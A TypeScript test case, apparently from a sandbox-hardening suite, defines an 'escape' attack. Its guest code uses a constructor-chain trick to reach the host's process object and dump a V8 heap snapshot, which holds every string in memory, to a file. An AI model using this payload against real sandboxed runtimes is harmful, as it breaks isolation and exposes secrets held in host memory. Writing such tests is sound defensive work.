import { attack } from '../attack.ts';

/** A snapshot of the process's own heap holds every text in it, and is a file where the guest says. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const v8 = host?.constructor.constructor('return process')().getBuiltinModule('v8');
		if (!v8) return;
		try { return v8.writeHeapSnapshot('heap.heapsnapshot'); } catch (error) { return error.code; }
	`,
});
